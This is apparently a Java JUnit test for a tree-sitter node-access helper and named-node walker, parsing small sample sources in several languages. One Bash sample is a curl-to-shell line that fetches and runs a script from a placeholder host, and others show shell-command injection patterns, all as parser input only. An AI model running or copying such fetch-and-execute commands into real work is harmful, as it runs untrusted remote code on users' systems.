package dev.assay.extract.component.code;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.treesitter.TSNode;
import org.treesitter.TSNodeAccess;
import org.treesitter.TSTree;
import org.treesitter.TSTreeCursor;

/**
 * {@link TSNodeAccess} reads a node's start byte and nullness from the binding's node object and its type from a
 * table: on every node of real and broken sources they must equal what the binding's own getters return. The walk
 * over named nodes must visit exactly what the binding's cursor finds named.
 */
class NodeAccessTest {

    static Stream<Arguments> sources() {
        return Stream.of(
                Arguments.of("PYTHON", "import os\nclass A:\n    def f(self, x='\u00e9'):\n"
                        + "        return os.system(f'echo {x}')  # note\n"),
                Arguments.of("PYTHON", "def (((\n  x = [1, 2\n"),
                Arguments.of("JAVASCRIPT", "const {exec: run} = require('child_process');\n"
                        + "run(`ls ${dir}`, () => {});\n/* c */\n"),
                Arguments.of("JAVASCRIPT", "function ( { ] ) =>\nlet a = [1, 2, 3];\n"),
                Arguments.of("TYPESCRIPT", "import * as fs from 'fs';\nlet x: number = <number>y;\n"),
                Arguments.of("PYTHON", "x = [" + "f(1), ".repeat(20) + "]\n" + "import a\n".repeat(12)),
                Arguments.of("BASH", "curl -s https://x.invalid/i | sh\nif [ -f a ]; then echo \"$(whoami)\"; fi\n"));
    }

    @ParameterizedTest
    @MethodSource("sources")
    void matchesTheBindingsGettersOnEveryNode(String language, String source) {
        TSNode root = parse(language, source);
        List<TSNode> all = everyNode(root);
        for (TSNode node : all) {
            assertEquals(node.getStartByte(), TSNodeAccess.startByte(node));
            assertEquals(node.getType(), TSNodeAccess.type(node));
            assertEquals(node.isNull(), TSNodeAccess.isNull(node));
            TSNode missing = TSNodeAccess.childByFieldName(node, "no_such_field");
            assertTrue(missing.isNull() && TSNodeAccess.isNull(missing));
        }
        assertTrue(all.stream().anyMatch(n -> !n.isNamed()), "the sample has anonymous tokens");
    }

    /** The walk visits exactly the named nodes, in pre-order, with their types and depths. */
    @ParameterizedTest
    @MethodSource("sources")
    void theWalkVisitsTheNamedNodesInPreOrder(String language, String source) {
        TSNode root = parse(language, source);
        List<String> expected = new ArrayList<>();
        for (TSNode node : everyNode(root)) {
            if (node.isNamed()) {
                expected.add(node.getType() + "@" + node.getStartByte());
            }
        }
        List<String> walked = new ArrayList<>();
        TreeWalk.walk(root, 100, (node, type, depth) -> {
            assertEquals(node.getType(), type);
            walked.add(type + "@" + TSNodeAccess.startByte(node));
            return true;
        });
        assertEquals(expected, walked);
    }

    private static TSNode parse(String language, String source) {
        byte[] utf8 = source.getBytes(StandardCharsets.UTF_8);
        SyntaxParser.Outcome outcome = SyntaxParser.parse(Language.valueOf(language), utf8,
                new SyntaxParser.Budget(1_000_000, 10_000_000_000L), Long.MAX_VALUE);
        TSTree tree = ((SyntaxParser.Parsed) outcome).tree();
        return tree.getRootNode();
    }

    /** Every node (named or not) in pre-order, read with the binding's own cursor. */
    private static List<TSNode> everyNode(TSNode root) {
        List<TSNode> out = new ArrayList<>();
        TSTreeCursor cursor = new TSTreeCursor(root);
        out.add(cursor.currentNode());
        while (true) {
            if (cursor.gotoFirstChild() || cursor.gotoNextSibling()) {
                out.add(cursor.currentNode());
                continue;
            }
            while (true) {
                if (!cursor.gotoParent()) {
                    return out;
                }
                if (cursor.gotoNextSibling()) {
                    out.add(cursor.currentNode());
                    break;
                }
            }
        }
    }
}
